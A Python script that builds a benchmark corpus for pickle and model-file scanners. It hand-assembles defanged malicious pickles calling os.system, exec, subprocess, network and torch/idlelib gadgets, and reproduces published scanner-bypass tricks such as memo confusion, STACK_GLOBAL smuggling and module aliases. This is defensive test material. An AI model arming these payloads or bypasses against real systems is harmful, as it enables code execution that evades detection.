#!/usr/bin/env python3
"""Corpus generator for the scanner benchmark (issue 4, requirement 7).

    python bench/scan_corpus.py OUT_DIR            # usually run by bench/scan.py with the anchors venv

Writes ``OUT_DIR/malicious/<family>/<name>``, ``OUT_DIR/benign/<kind>/<name>`` and
``OUT_DIR/labels.json`` (a list of ``{path, label, family, technique, note}``; ``path`` is relative
to OUT_DIR; ``family`` is the benign kind for benign files).

Safety rules, kept by construction:
* every malicious pickle is written as raw opcode bytes by this file; nothing here ever calls
  ``pickle.load(s)``, ``torch.load``, ``joblib.load``, ``np.load(allow_pickle=True)``, ``keras``
  loading or ``h5py`` reads of what it wrote;
* every payload is harmless even if somebody did load it: shell commands are ``true``, Python code
  prints ``mlflow-modelkit-test``, URLs use the reserved ``.invalid`` TLD, paths point under
  ``/dev/null/`` (no file or directory can be created there, even by root);
* the published scanner bypasses are reproduced from their advisories' descriptions; each such
  sample is named after its advisory (``GHSA-…``/``CVE-…``) and its ``note`` says where it comes from.

Benign samples are made by the real libraries when they are importable here (torch, scikit-learn,
joblib, xgboost, safetensors, h5py, skops, mlflow); when one is missing, the sample is built by hand
per the format's spec and the label's note says so, or it is skipped (listed in ``skipped`` of
``OUT_DIR/corpus-info.json``).
"""

from __future__ import annotations

import base64
import binascii
import bz2
import gzip
import io
import json
import lzma
import marshal
import random
import struct
import sys
import tarfile
import types
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path
from typing import Any

# --------------------------------------------------------------------------------------------
# harmless payloads
SHELL = "true"
PYCODE = 'print("mlflow-modelkit-test")'
URL = "https://example.invalid/mlflow-modelkit-test"
NOPATH = "/dev/null/mlflow-modelkit-test"  # nothing can be created under /dev/null, even as root

# --------------------------------------------------------------------------------------------
# a tiny pickle assembler (opcodes from the CPython pickle module's table, written out here)
PROTO, STOP, MARK, POP = b"\x80", b".", b"(", b"0"
TUPLE, TUPLE1, TUPLE2, TUPLE3, EMPTY_TUPLE = b"t", b"\x85", b"\x86", b"\x87", b")"
LIST, EMPTY_LIST, APPEND, APPENDS = b"l", b"]", b"a", b"e"
DICT, EMPTY_DICT, SETITEM, SETITEMS = b"d", b"}", b"s", b"u"
GLOBAL, STACK_GLOBAL, REDUCE, BUILD = b"c", b"\x93", b"R", b"b"
INST, OBJ, NEWOBJ, NEWOBJ_EX = b"i", b"o", b"\x81", b"\x92"
EXT1, EXT2, EXT4 = b"\x82", b"\x83", b"\x84"
PUT, BINPUT, LONG_BINPUT, MEMOIZE = b"p", b"q", b"r", b"\x94"
GET, BINGET, LONG_BINGET = b"g", b"h", b"j"
NONE, NEWTRUE, NEWFALSE = b"N", b"\x88", b"\x89"
BININT, BININT1, BININT2, LONG1, INT = b"J", b"K", b"M", b"\x8a", b"I"
STRING, UNICODE, BINUNICODE, SHORT_BINUNICODE = b"S", b"V", b"X", b"\x8c"
BINBYTES, SHORT_BINBYTES, FRAME, BINPERSID = b"B", b"C", b"\x95", b"Q"


def u(s: str) -> bytes:
    """Push a str (binary protocols)."""
    b = s.encode()
    if len(b) < 256:
        return SHORT_BINUNICODE + bytes([len(b)]) + b
    return BINUNICODE + struct.pack("<I", len(b)) + b


def s0(s: str) -> bytes:
    """Push a str (protocol 0 STRING)."""
    return STRING + repr(s).encode() + b"\n"


def enc(v: Any) -> bytes:
    """Push a plain value (str, bytes, int, bool, None, list, tuple, dict) in a binary protocol."""
    if v is None:
        return NONE
    if v is True:
        return NEWTRUE
    if v is False:
        return NEWFALSE
    if isinstance(v, int):
        if 0 <= v < 256:
            return BININT1 + bytes([v])
        if -(2**31) <= v < 2**31:
            return BININT + struct.pack("<i", v)
        n = (v.bit_length() + 8) // 8
        return LONG1 + bytes([n]) + v.to_bytes(n, "little", signed=True)
    if isinstance(v, float):
        return b"G" + struct.pack(">d", v)  # BINFLOAT
    if isinstance(v, str):
        return u(v)
    if isinstance(v, bytes):
        if len(v) < 256:
            return SHORT_BINBYTES + bytes([len(v)]) + v
        return BINBYTES + struct.pack("<I", len(v)) + v
    if isinstance(v, list):
        return EMPTY_LIST + (MARK + b"".join(enc(x) for x in v) + APPENDS if v else b"")
    if isinstance(v, tuple):
        return MARK + b"".join(enc(x) for x in v) + TUPLE
    if isinstance(v, dict):
        items = b"".join(enc(k) + enc(x) for k, x in v.items())
        return EMPTY_DICT + (MARK + items + SETITEMS if v else b"")
    raise TypeError(type(v))


def g(mod: str, name: str) -> bytes:
    """GLOBAL opcode (protocols 0–3 style)."""
    return GLOBAL + mod.encode() + b"\n" + name.encode() + b"\n"


def sg(mod: str, name: str) -> bytes:
    """STACK_GLOBAL (protocol 4+ style), strings memoized like CPython does."""
    return u(mod) + MEMOIZE + u(name) + MEMOIZE + STACK_GLOBAL + MEMOIZE


def call(fn: bytes, *args: Any) -> bytes:
    """``fn(*args)`` via REDUCE; args are plain values or already-encoded ``bytes`` wrapped in Raw."""
    return fn + MARK + b"".join(a.b if isinstance(a, Raw) else enc(a) for a in args) + TUPLE + REDUCE


class Raw:
    """Already-assembled opcodes passed as an argument to call()."""

    def __init__(self, b: bytes) -> None:
        self.b = b


def pk(body: bytes, proto: int = 4) -> bytes:
    """Wrap ``body`` into a complete pickle (PROTO header for proto ≥ 2, STOP at the end)."""
    head = PROTO + bytes([proto]) if proto >= 2 else b""
    return head + body + STOP


def reduce_pickle(mod: str, name: str, *args: Any, proto: int = 4) -> bytes:
    """The canonical ``__reduce__`` payload: import ``mod.name`` and call it with ``args``."""
    fn = sg(mod, name) if proto >= 4 else g(mod, name)
    return pk(call(fn, *args), proto)


# --------------------------------------------------------------------------------------------
# the corpus writer


class Corpus:
    def __init__(self, out: Path) -> None:
        self.out = out
        self.labels: list[dict[str, str]] = []
        self.skipped: list[str] = []
        self.libs: dict[str, str] = {}

    def add(self, label: str, family: str, name: str, data: bytes, technique: str, note: str = "") -> Path:
        top = "malicious" if label == "malicious" else "benign"
        p = self.out / top / family / name
        p.parent.mkdir(parents=True, exist_ok=True)
        p.write_bytes(data)
        self.record(p, label, family, technique, note)
        return p

    def record(self, p: Path, label: str, family: str, technique: str, note: str = "") -> None:
        rel = p.relative_to(self.out).as_posix()
        self.labels.append(
            {"path": rel, "label": label, "family": family, "technique": technique, "note": note}
        )

    def bad(self, family: str, name: str, data: bytes, technique: str, note: str = "") -> Path:
        return self.add("malicious", family, name, data, technique, note)

    def good(self, kind: str, name: str, data: bytes, technique: str, note: str = "") -> Path:
        return self.add("benign", kind, name, data, technique, note)

    def path(self, label: str, family: str, name: str) -> Path:
        p = self.out / ("malicious" if label == "malicious" else "benign") / family / name
        p.parent.mkdir(parents=True, exist_ok=True)
        return p


def zip_bytes(members: list[tuple[str, bytes]], compression: int = zipfile.ZIP_STORED) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", compression) as z:
        for name, data in members:
            z.writestr(name, data)
    return buf.getvalue()


def tar_bytes(members: list[tuple[str, bytes]], mode: str = "w") -> bytes:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode=mode) as t:
        for name, data in members:
            info = tarfile.TarInfo(name)
            info.size = len(data)
            info.mtime = 1_700_000_000
            t.addfile(info, io.BytesIO(data))
    return buf.getvalue()


def patch_zip_flags(data: bytes, flag: int) -> bytes:
    """Set general-purpose flag bits in every local and central header (CVE-2025-1945)."""
    b = bytearray(data)
    for sig, off in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        i = b.find(sig)
        while i >= 0:
            cur = struct.unpack_from("<H", b, i + off)[0]
            struct.pack_into("<H", b, i + off, cur | flag)
            i = b.find(sig, i + 4)
    return bytes(b)


# --------------------------------------------------------------------------------------------
# malicious: pickle-global — one dangerous import per sample, called with a harmless argument

_C = "__import__('os').system('true')"  # the advisories' payload string, made harmless

GLOBAL_SAMPLES: list[tuple[str, str, str, tuple[Any, ...], str]] = [
    # (file name, module, qualified name, args, note)
    ("os_system.pkl", "os", "system", (SHELL,), "classic os.system"),
    ("posix_system.pkl", "posix", "system", (SHELL,), "os.system pickled on Linux is posix.system"),
    ("nt_system.pkl", "nt", "system", (SHELL,), "os.system pickled on Windows is nt.system"),
    ("os_popen.pkl", "os", "popen", (SHELL,), ""),
    ("os_execv.pkl", "os", "execv", ("/bin/true", ["true"]), ""),
    ("os_spawnlp.pkl", "os", "spawnlp", (0, SHELL, SHELL), ""),
    ("os_remove.pkl", "os", "remove", (NOPATH,), "file deletion"),
    ("builtins_exec.pkl", "builtins", "exec", (PYCODE,), ""),
    ("builtins_eval.pkl", "builtins", "eval", (PYCODE,), ""),
    ("builtins_compile.pkl", "builtins", "compile", (PYCODE, "<s>", "exec"), ""),
    ("builtins_import.pkl", "builtins", "__import__", ("os",), ""),
    ("builtins_open.pkl", "builtins", "open", (NOPATH, "w"), "file write"),
    ("builtins_breakpoint.pkl", "builtins", "breakpoint", (), ""),
    ("builtins_input.pkl", "builtins", "input", (), ""),
    ("subprocess_Popen.pkl", "subprocess", "Popen", ([SHELL],), ""),
    ("subprocess_run.pkl", "subprocess", "run", ([SHELL],), "picklescan test malicious8"),
    ("subprocess_check_output.pkl", "subprocess", "check_output", ([SHELL],), ""),
    ("subprocess_getoutput.pkl", "subprocess", "getoutput", (SHELL,), ""),
    ("posixsubprocess_fork_exec.pkl", "_posixsubprocess", "fork_exec", ([SHELL],), "low-level spawn"),
    ("runpy_run_code.pkl", "runpy", "_run_code", (PYCODE, {}), "picklescan malicious14"),
    ("runpy_run_path.pkl", "runpy", "run_path", (NOPATH,), ""),
    ("runpy_run_module.pkl", "runpy", "run_module", ("this",), ""),
    ("importlib_import_module.pkl", "importlib", "import_module", ("os",), "picklescan PR #74"),
    ("CVE-2025-1716_pip_main.pkl", "pip", "main", (["--version"],), "CVE-2025-1716 (Sonatype): pip.main"),
    ("pip_internal_main.pkl", "pip._internal", "main", (["--version"],), "CVE-2025-1716 variant"),
    ("webbrowser_open.pkl", "webbrowser", "open", (URL,), ""),
    ("socket_create_connection.pkl", "socket", "create_connection", (("127.0.0.1", 9),), "malicious7"),
    ("socket_socket.pkl", "socket", "socket", (), ""),
    ("ctypes_CDLL.pkl", "ctypes", "CDLL", (None,), "GHSA-4675-36f9-wf6r"),
    ("ctypes_cdll_LoadLibrary.pkl", "ctypes", "cdll.LoadLibrary", ("libc.so.6",), "dotted name"),
    ("shutil_rmtree.pkl", "shutil", "rmtree", (NOPATH,), ""),
    ("shutil_copyfile.pkl", "shutil", "copyfile", ("/etc/hostname", NOPATH), ""),
    ("asyncio_create_subprocess_shell.pkl", "asyncio", "create_subprocess_shell", (SHELL,), ""),
    (
        "asyncio_subprocess_create_subprocess_exec.pkl",
        "asyncio.subprocess",
        "create_subprocess_exec",
        (SHELL,),
        "",
    ),
    (
        "GHSA-q77w-mwjj-7mqx_asyncio_unix_events.pkl",
        "asyncio.unix_events",
        "_UnixSubprocessTransport._start",
        ({}, SHELL, True, None, None, None, 0),
        "GHSA-q77w-mwjj-7mqx / CVE-2025-10157 class: asyncio submodule",
    ),
    (
        "code_InteractiveInterpreter_runsource.pkl",
        "code",
        "InteractiveInterpreter.runsource",
        ({}, PYCODE),
        "",
    ),
    (
        "GHSA-cj3c-v495-4xqh_code_runcode.pkl",
        "code",
        "InteractiveInterpreter.runcode",
        ({}, _C),
        "GHSA-cj3c-v495-4xqh",
    ),
    ("code_interact.pkl", "code", "interact", (), ""),
    ("GHSA-49gj-c84q-6qm9_cProfile_run.pkl", "cProfile", "run", (_C,), "GHSA-49gj-c84q-6qm9"),
    (
        "GHSA-9w88-8rmg-7g2p_cProfile_runctx.pkl",
        "cProfile",
        "runctx",
        (_C, None, None),
        "GHSA-9w88-8rmg-7g2p",
    ),
    ("GHSA-7wx9-6375-f5wh_profile_run.pkl", "profile", "run", (_C,), "GHSA-7wx9-6375-f5wh"),
    (
        "GHSA-x696-vm39-cp64_profile_Profile_run.pkl",
        "profile",
        "Profile.run",
        ({}, _C),
        "GHSA-x696-vm39-cp64",
    ),
    (
        "GHSA-6vqj-c2q5-j97w_profile_Profile_runctx.pkl",
        "profile",
        "Profile.runctx",
        ({}, _C, {}, {}),
        "GHSA-6vqj-c2q5-j97w",
    ),
    ("GHSA-5qwp-399c-mjwf_trace_Trace_run.pkl", "trace", "Trace.run", ({}, _C), "GHSA-5qwp-399c-mjwf"),
    (
        "GHSA-g344-hcph-8vgg_trace_Trace_runctx.pkl",
        "trace",
        "Trace.runctx",
        ({}, _C, {}, {}),
        "GHSA-g344-hcph-8vgg",
    ),
    ("bdb_Bdb_run.pkl", "bdb", "Bdb.run", ({}, _C), "picklescan malicious15"),
    ("pdb_run.pkl", "pdb", "run", (_C,), ""),
    ("timeit_timeit.pkl", "timeit", "timeit", ("", _C), "picklescan malicious21"),
    ("GHSA-vqmv-47xg-9wpr_pty_spawn.pkl", "pty", "spawn", ([SHELL],), "GHSA-vqmv-47xg-9wpr"),
    (
        "GHSA-3vg9-h568-4w9m_idlelib_debugobj.pkl",
        "idlelib.debugobj",
        "ObjectTreeItem.SetText",
        ({}, _C),
        "GHSA-3vg9-h568-4w9m",
    ),
    (
        "GHSA-6w4w-5w54-rjvr_idlelib_autocomplete.pkl",
        "idlelib.autocomplete",
        "AutoComplete.get_entity",
        ({}, _C),
        "GHSA-6w4w-5w54-rjvr",
    ),
    (
        "GHSA-7cq8-mj8x-j263_idlelib_fetch_completions.pkl",
        "idlelib.autocomplete",
        "AutoComplete.fetch_completions",
        ({}, _C, 1),
        "GHSA-7cq8-mj8x-j263",
    ),
    (
        "GHSA-8r4j-24qv-fmq9_idlelib_calltip.pkl",
        "idlelib.calltip",
        "Calltip.fetch_tip",
        ({}, _C),
        "GHSA-8r4j-24qv-fmq9",
    ),
    (
        "GHSA-9xph-j2h6-g47v_idlelib_get_entity.pkl",
        "idlelib.calltip",
        "get_entity",
        (_C,),
        "GHSA-9xph-j2h6-g47v",
    ),
    (
        "GHSA-m869-42cg-3xwr_idlelib_run_Executive.pkl",
        "idlelib.run",
        "Executive.runcode",
        ({}, _C),
        "GHSA-m869-42cg-3xwr",
    ),
    (
        "GHSA-j343-8v2j-ff7w_idlelib_pyshell_runcommand.pkl",
        "idlelib.pyshell",
        "ModifiedInterpreter.runcommand",
        ({}, _C),
        "GHSA-j343-8v2j-ff7w",
    ),
    (
        "GHSA-3gf5-cxq9-w223_idlelib_pyshell_runcode.pkl",
        "idlelib.pyshell",
        "ModifiedInterpreter.runcode",
        ({}, _C),
        "GHSA-3gf5-cxq9-w223",
    ),
    (
        "GHSA-f54q-57x4-jg88_lib2to3_grammar_loads.pkl",
        "lib2to3.pgen2.grammar",
        "Grammar.loads",
        ({}, b""),
        "GHSA-f54q-57x4-jg88",
    ),
    (
        "GHSA-p9w7-82w4-7q8m_lib2to3_make_label.pkl",
        "lib2to3.pgen2.pgen",
        "ParserGenerator.make_label",
        (None, {}, '""+' + _C),
        "GHSA-p9w7-82w4-7q8m",
    ),
    ("_io_FileIO.pkl", "_io", "FileIO", ("/etc/hostname", "r"), "picklescan io_FileIO, C module name"),
    ("io_FileIO_write.pkl", "io", "FileIO", (NOPATH, "w"), ""),
    ("io_open.pkl", "io", "open", (NOPATH, "w"), ""),
    (
        "GHSA-m273-6v24-x4m4_distutils_write_file.pkl",
        "distutils.file_util",
        "write_file",
        (NOPATH, ["mlflow-modelkit-test"]),
        "GHSA-m273-6v24-x4m4",
    ),
    ("torch_hub_load.pkl", "torch.hub", "load", ("nonexistent/repo", "model"), "torch.hub is never safe"),
    ("torch_load.pkl", "torch", "load", ("other.bin",), "nested torch.load (weights_only default off)"),
    ("torch_serialization_load.pkl", "torch.serialization", "load", ("other.bin",), ""),
    (
        "torch_inductor_compile_file.pkl",
        "torch._inductor.codecache",
        "compile_file",
        ("", "", [SHELL]),
        "picklescan malicious17",
    ),
    (
        "GHSA-f745-w6jp-hpxx_torch_collect_env_run.pkl",
        "torch.utils.collect_env",
        "run",
        (SHELL,),
        "GHSA-f745-w6jp-hpxx",
    ),
    (
        "GHSA-jhph-76pp-mggw_torch_run_and_read_all.pkl",
        "torch.utils.collect_env",
        "run_and_read_all",
        (None, SHELL),
        "GHSA-jhph-76pp-mggw",
    ),
    (
        "GHSA-4r9r-ch6f-vxmx_torch_bottleneck_run_cprofile.pkl",
        "torch.utils.bottleneck.__main__",
        "run_cprofile",
        (_C, {}),
        "GHSA-4r9r-ch6f-vxmx",
    ),
    (
        "GHSA-4whj-rm5r-c2v8_torch_bottleneck_autograd_prof.pkl",
        "torch.utils.bottleneck.__main__",
        "run_autograd_prof",
        (_C, {}),
        "GHSA-4whj-rm5r-c2v8",
    ),
    (
        "GHSA-86cj-95qr-2p4f_torch_dynamo_guards.pkl",
        "torch._dynamo.guards",
        "GuardBuilder.get",
        ({}, _C),
        "GHSA-86cj-95qr-2p4f",
    ),
    (
        "GHSA-f4x7-rfwp-v3xw_torch_symbolic_shapes.pkl",
        "torch.fx.experimental.symbolic_shapes",
        "ShapeEnv.evaluate_guards_expression",
        ({}, _C, []),
        "GHSA-f4x7-rfwp-v3xw",
    ),
    (
        "GHSA-h3qp-7fh3-f8h4_torch_datapipes_decoder.pkl",
        "torch.utils.data.datapipes.utils.decoder",
        "basichandlers",
        ("pickle", b""),
        "GHSA-h3qp-7fh3-f8h4",
    ),
    (
        "GHSA-vr7h-p6mm-wpmh_torch_jit_execWrapper.pkl",
        "torch.jit.unsupported_tensor_ops",
        "execWrapper",
        (_C, {}, {}),
        "GHSA-vr7h-p6mm-wpmh",
    ),
    (
        "GHSA-vv6j-3g6g-2pvj_torch_config_module.pkl",
        "torch.utils._config_module",
        "ConfigModule.load_config",
        ({}, b""),
        "GHSA-vv6j-3g6g-2pvj",
    ),
    ("numpy_load.pkl", "numpy", "load", ("other.npy", None, True), "np.load(allow_pickle=True)"),
    (
        "GHSA-r8g5-cgf2-4m4m_numpy_f2py_getlincoef.pkl",
        "numpy.f2py.crackfortran",
        "getlincoef",
        (_C, []),
        "GHSA-r8g5-cgf2-4m4m",
    ),
    ("numpy_f2py_myeval.pkl", "numpy.f2py.crackfortran", "myeval", (_C,), "eval inside numpy.f2py"),
    (
        "numpy_testing_runstring.pkl",
        "numpy.testing._private.utils",
        "runstring",
        (_C, {}),
        "picklescan malicious22",
    ),
    ("numpy_ctypeslib_load_library.pkl", "numpy.ctypeslib", "load_library", ("libc", "/lib"), ""),
    ("pydoc_pipepager.pkl", "pydoc", "pipepager", ("", SHELL), "picklescan malicious18"),
    ("pydoc_locate.pkl", "pydoc", "locate", ("os.system",), "string → any object"),
    (
        "GHSA-vvpj-8cmc-gx39_pkgutil_resolve_name.pkl",
        "pkgutil",
        "resolve_name",
        ("os:system",),
        "GHSA-vvpj-8cmc-gx39: universal bypass",
    ),
    ("GHSA-g38g-8gr9-h9xp_uuid.pkl", "uuid", "_get_command_stdout", (SHELL,), "GHSA-g38g-8gr9-h9xp"),
    ("GHSA-g38g-8gr9-h9xp_osx_support.pkl", "_osx_support", "_read_output", (SHELL,), "GHSA-g38g-8gr9-h9xp"),
    (
        "GHSA-g38g-8gr9-h9xp_aix_support.pkl",
        "_aix_support",
        "_read_cmd_output",
        (SHELL,),
        "GHSA-g38g-8gr9-h9xp",
    ),
    ("GHSA-g38g-8gr9-h9xp_imaplib.pkl", "imaplib", "IMAP4_stream", (SHELL,), "GHSA-g38g-8gr9-h9xp"),
    (
        "GHSA-g38g-8gr9-h9xp_pyrepl_pager.pkl",
        "_pyrepl.pager",
        "pipe_pager",
        ("text", SHELL),
        "GHSA-g38g-8gr9-h9xp",
    ),
    (
        "GHSA-g38g-8gr9-h9xp_test_support.pkl",
        "test.support.script_helper",
        "assert_python_ok",
        ("-c", "pass"),
        "GHSA-g38g-8gr9-h9xp",
    ),
    (
        "GHSA-fqq6-7vqf-w3fg_doctest_debug_script.pkl",
        "doctest",
        "debug_script",
        (_C, True),
        "GHSA-fqq6-7vqf-w3fg",
    ),
    ("GHSA-xp4f-hrf8-rxw7_ensurepip_run_pip.pkl", "ensurepip", "_run_pip", ([],), "GHSA-xp4f-hrf8-rxw7"),
    (
        "venv_create.pkl",
        "venv",
        "create",
        (NOPATH, False, False, True, False, "$(true)"),
        "picklescan malicious20",
    ),
    ("logging_FileHandler.pkl", "logging", "FileHandler", (NOPATH,), "file write"),
    ("urllib_request_urlopen.pkl", "urllib.request", "urlopen", (URL,), ""),
    (
        "http_client_HTTPSConnection.pkl",
        "http.client",
        "HTTPSConnection",
        ("example.invalid",),
        "picklescan malicious3",
    ),
    ("requests_get.pkl", "requests", "get", (URL,), "picklescan malicious4"),
    ("aiohttp_ClientSession.pkl", "aiohttp", "ClientSession", (), "picklescan malicious5"),
    (
        "ssl_get_server_certificate.pkl",
        "ssl",
        "get_server_certificate",
        (("example.invalid", 443),),
        "picklescan dns_exfiltration",
    ),
    ("smtplib_SMTP.pkl", "smtplib", "SMTP", ("example.invalid",), ""),
    ("ftplib_FTP.pkl", "ftplib", "FTP", ("example.invalid",), ""),
    ("pickle_loads.pkl", "pickle", "loads", (b"I1\n.",), "nested unpickling (picklescan malicious13)"),
    ("_pickle_loads.pkl", "_pickle", "loads", (b"I1\n.",), ""),
    ("dill_loads.pkl", "dill", "loads", (b"I1\n.",), ""),
    ("marshal_loads.pkl", "marshal", "loads", (b"N",), "picklescan PR #74"),
    (
        "types_CodeType.pkl",
        "types",
        "CodeType",
        (0, 0, 0, 0, 0, 0, b"", (), (), (), "", "", "", 0, b"", b""),
        "picklescan types_CodeType",
    ),
    ("types_FunctionType.pkl", "types", "FunctionType", (None, {}), "cloudpickle-style function rebuild"),
    ("sys_exit.pkl", "sys", "exit", (0,), "picklescan malicious9"),
    ("signal_raise_signal.pkl", "signal", "raise_signal", (15,), ""),
    ("tempfile_mktemp.pkl", "tempfile", "mkstemp", (), ""),
    ("glob_glob.pkl", "glob", "glob", ("/etc/*",), "filesystem enumeration"),
    ("zipimport_zipimporter.pkl", "zipimport", "zipimporter", (NOPATH,), "code import"),
    ("multiprocessing_Process.pkl", "multiprocessing", "Process", (), ""),
    ("threading_Thread.pkl", "threading", "Thread", (), ""),
    (
        "cloudpickle_subimport.pkl",
        "cloudpickle.cloudpickle",
        "subimport",
        ("os",),
        "cloudpickle module import",
    ),
    ("operator_attrgetter_alone.pkl", "operator", "attrgetter", ("system",), ""),
    ("functools_partial_alone.pkl", "functools", "partial", (), ""),
    ("builtins_getattr_alone.pkl", "builtins", "getattr", ((), "__class__"), ""),
    ("builtins_setattr.pkl", "builtins", "setattr", (None, "x", 1), ""),
    ("builtins_globals.pkl", "builtins", "globals", (), ""),
    ("builtins_vars.pkl", "builtins", "vars", (), ""),
    (
        "fickling_scanner_tamper.pkl",
        "fickling",
        "always_check_safety",
        (),
        "fickling PR #249: scanner tampering",
    ),
    ("picklescan_tamper.pkl", "picklescan.scanner", "scan_pickle_bytes", (), "scanner tampering"),
]


def gen_pickle_global(c: Corpus) -> None:
    fam = "pickle-global"
    for i, (name, mod, qual, args, note) in enumerate(GLOBAL_SAMPLES):
        # alternate encodings so both GLOBAL (proto 2/3) and STACK_GLOBAL (proto 4/5) are covered
        proto = (4, 2, 5, 3)[i % 4]
        if "." in qual and proto < 4:
            proto = 4  # dotted qualnames need STACK_GLOBAL semantics (protocol 4+)
        c.bad(fam, name, reduce_pickle(mod, qual, *args, proto=proto), f"{mod}.{qual}", note)
    # protocol 0 text pickle of the same thing (the "Sour Pickles" style)
    c.bad(
        fam,
        "proto0_os_system.pkl",
        g("os", "system") + MARK + s0(SHELL) + TUPLE + REDUCE + STOP,
        "os.system (protocol 0)",
        "",
    )
    c.bad(
        fam,
        "proto1_builtins_eval.pkl",
        g("__builtin__", "eval") + MARK + s0(PYCODE) + TUPLE + REDUCE + STOP,
        "__builtin__.eval (protocol 1)",
        "",
    )


# --------------------------------------------------------------------------------------------
# malicious: pickle-obfuscation


def gen_pickle_obfuscation(c: Corpus) -> None:
    fam = "pickle-obfuscation"
    bad = c.bad

    # STACK_GLOBAL whose strings come from the memo via BINGET, pushed long before
    body = (
        u("os")
        + BINPUT
        + b"\x05"
        + POP
        + u("unused")
        + MEMOIZE
        + POP
        + u("system")
        + BINPUT
        + b"\x07"
        + POP
        + enc({"weights": [1, 2, 3]})
        + POP
        + BINGET
        + b"\x05"
        + BINGET
        + b"\x07"
        + STACK_GLOBAL
        + MARK
        + u(SHELL)
        + TUPLE
        + REDUCE
    )
    bad(fam, "stack_global_memo_binget.pkl", pk(body), "STACK_GLOBAL from memo (BINGET)")
    # LONG_BINGET with high indexes
    body = (
        u("builtins")
        + LONG_BINPUT
        + struct.pack("<I", 70000)
        + POP
        + u("exec")
        + LONG_BINPUT
        + struct.pack("<I", 70001)
        + POP
        + LONG_BINGET
        + struct.pack("<I", 70000)
        + LONG_BINGET
        + struct.pack("<I", 70001)
        + STACK_GLOBAL
        + MARK
        + u(PYCODE)
        + TUPLE
        + REDUCE
    )
    bad(fam, "stack_global_long_binget.pkl", pk(body), "STACK_GLOBAL from memo (LONG_BINGET, high index)")
    # picklescan issue #14 / Doyensec: memo confusion mixing BINPUT and MEMOIZE
    body = (
        u("os")
        + BINPUT
        + b"\x00"
        + u("system")
        + BINPUT
        + b"\x01"
        + u("torch._utils")
        + MEMOIZE
        + u("_rebuild_tensor_v2")
        + MEMOIZE
        + POP
        + POP
        + POP
        + POP
        + BINGET
        + b"\x00"
        + BINGET
        + b"\x01"
        + STACK_GLOBAL
        + MARK
        + u(SHELL)
        + TUPLE
        + REDUCE
    )
    bad(
        fam,
        "picklescan-issue14_memo_put_memoize_confusion.pkl",
        pk(body),
        "memo confusion (BINPUT + MEMOIZE)",
        "picklescan issue #14 (Doyensec)",
    )
    # imaginaryctf "Safe Pickle" (picklescan issue #22): UNICODE/PUT/POP then GET/GET/STACK_GLOBAL
    body = b"".join(
        [
            UNICODE + b"os\n",
            PUT + b"2\n",
            POP,
            UNICODE + b"system\n",
            PUT + b"3\n",
            POP,
            UNICODE + b"torch\n",
            PUT + b"0\n",
            POP,
            UNICODE + b"LongStorage\n",
            PUT + b"1\n",
            POP,
            GET + b"2\n",
            GET + b"3\n",
            STACK_GLOBAL,
            MARK,
            UNICODE + SHELL.encode() + b"\n",
            TUPLE,
            REDUCE,
            STOP,
        ]
    )
    bad(
        fam,
        "picklescan-issue22_ctf_put_get.pkl",
        body,
        "PUT/GET memo with STACK_GLOBAL, no PROTO",
        "picklescan issue #22 (imaginaryctf Safe Pickle)",
    )
    # GHSA-9gvj-pp9x-gcfr: STRING opcodes feeding STACK_GLOBAL
    body = s0("os") + s0("system") + STACK_GLOBAL + s0(SHELL) + TUPLE1 + REDUCE + STOP
    bad(
        fam,
        "GHSA-9gvj-pp9x-gcfr_string_stack_global.pkl",
        body,
        "STRING + STACK_GLOBAL",
        "GHSA-9gvj-pp9x-gcfr (picklescan parsing logic flaw)",
    )
    # modelscan issue #85: BUILD smuggles strings onto an allowed global, PUT after GLOBAL, STACK_GLOBAL
    body = b"".join(
        [
            PROTO,
            b"\x05",
            g("numpy", "prod"),
            NONE,
            MARK,
            UNICODE + b"a\n",
            UNICODE + b"os\n",
            DICT,
            TUPLE2,
            BUILD,
            NONE,
            MARK,
            UNICODE + b"b\n",
            UNICODE + b"system\n",
            DICT,
            TUPLE2,
            BUILD,
            POP,
            g("numpy", "prod.a"),
            PUT + b"0\n",
            g("numpy", "prod.b"),
            PUT + b"1\n",
            POP,
            POP,
            GET + b"0\n",
            GET + b"1\n",
            STACK_GLOBAL,
            UNICODE + SHELL.encode() + b"\n",
            TUPLE1,
            REDUCE,
            STOP,
        ]
    )
    bad(
        fam,
        "modelscan-issue85_build_setattr_memo.pkl",
        body,
        "BUILD setattr + memo + STACK_GLOBAL",
        "modelscan issue #85",
    )
    # picklescan keyerror / type-confusion exploits: dangerous call first, then a memo error
    body = (
        PROTO
        + b"\x04"
        + g("os", "system")
        + UNICODE
        + b"true\n"
        + TUPLE1
        + REDUCE
        + POP
        + u("os")
        + MEMOIZE
        + BINGET
        + b"\x03"
        + BINGET
        + b"\x00"
        + STACK_GLOBAL
        + BININT1
        + b"\x42"
        + STOP
    )
    bad(
        fam,
        "picklescan_keyerror_memo.pkl",
        body,
        "dangerous REDUCE, then missing memo key",
        "picklescan test data2/keyerror-exploit",
    )
    body = (
        PROTO
        + b"\x04"
        + g("os", "system")
        + UNICODE
        + b"true\n"
        + TUPLE1
        + REDUCE
        + POP
        + BININT
        + struct.pack("<i", 42)
        + MEMOIZE
        + u("os")
        + MEMOIZE
        + BINGET
        + b"\x00"
        + BINGET
        + b"\x01"
        + STACK_GLOBAL
        + BININT1
        + b"\x42"
        + STOP
    )
    bad(
        fam,
        "picklescan_type_confusion_memo.pkl",
        body,
        "dangerous REDUCE, then int in STACK_GLOBAL",
        "picklescan test data2/type-confusion-exploit",
    )

    # module aliases
    for name, mod, fn, arg, proto in [
        ("alias___builtin___eval.pkl", "__builtin__", "eval", PYCODE, 2),
        ("alias___builtin___exec_proto0.pkl", "__builtin__", "exec", PYCODE, 0),
        ("alias__operator_attrgetter.pkl", "_operator", "attrgetter", "system", 2),
        ("alias_posix_system.pkl", "posix", "system", SHELL, 2),
        ("alias_nt_system.pkl", "nt", "system", SHELL, 3),
        ("alias_commands_getoutput.pkl", "commands", "getoutput", SHELL, 2),
        ("alias_cPickle_loads.pkl", "cPickle", "loads", "I1\n.", 2),
        ("alias__io_open.pkl", "_io", "open", NOPATH, 2),
        ("alias__codecs_open.pkl", "_codecs", "open", NOPATH, 2),
    ]:
        if proto == 0:
            data = g(mod, fn) + MARK + s0(arg) + TUPLE + REDUCE + STOP
        else:
            data = reduce_pickle(mod, fn, arg, proto=proto)
        bad(fam, name, data, f"module alias {mod}.{fn}")

